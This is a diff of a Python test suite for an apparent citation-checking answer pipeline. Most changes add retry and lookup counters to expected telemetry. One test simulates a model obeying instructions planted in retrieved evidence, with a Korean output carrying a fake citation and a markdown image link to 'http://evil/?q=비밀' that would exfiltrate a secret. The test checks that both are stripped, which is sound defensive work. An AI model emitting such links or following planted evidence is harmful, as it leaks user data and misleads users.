@@ -95,8 +95,10 @@ async def test_a_good_answer_is_streamed_cited_and_checked_in_one_call() -> None
         "marked": 0,
         "left_out": 0,
         "mended_citations": 0,
+        "looked_up": 0,
         "hallucination": "valid",
         "grade": "accept",
+        "retry_count": 0,
     }
     assert answer.marks == ()
     assert (call.body["temperature"], call.body["top_p"], call.body["max_tokens"]) == (0, 0.9, 512)
@@ -125,7 +127,9 @@ async def test_a_figure_that_stays_wrong_is_quoted_instead() -> None:
         "numeric_preservation": None,
         "recovery_round": 2,
         "fallback": "extractive",
+        "hallucination": "valid",
         "grade": "accept",
+        "retry_count": 2,
     }
     assert len(here.heard.retried) == 3, "the first draft, over the best three, over the best one"
     assert here.usage.by_prompt == {"answer": 1, "answer_strict": 2}
@@ -198,7 +202,7 @@ async def test_instructions_planted_in_the_evidence_stay_data_and_add_no_citatio
     obeyed = "보증금은 자유롭게 올립니다 [9]. ![x](http://evil/?q=비밀) [3]"
     async with room({"answer": obeyed}) as here:
         answer = await here.write(asked(QUESTION, law(RENEWAL, PLANTED)))
-        [call] = here.endpoint.calls
+        [call] = here.endpoint.calls_of("answer")
     assert {one.chunk_id for one in answer.citations} <= {"law-7", "evil"}
     assert "[9]" not in answer.content
     assert "](" not in answer.content
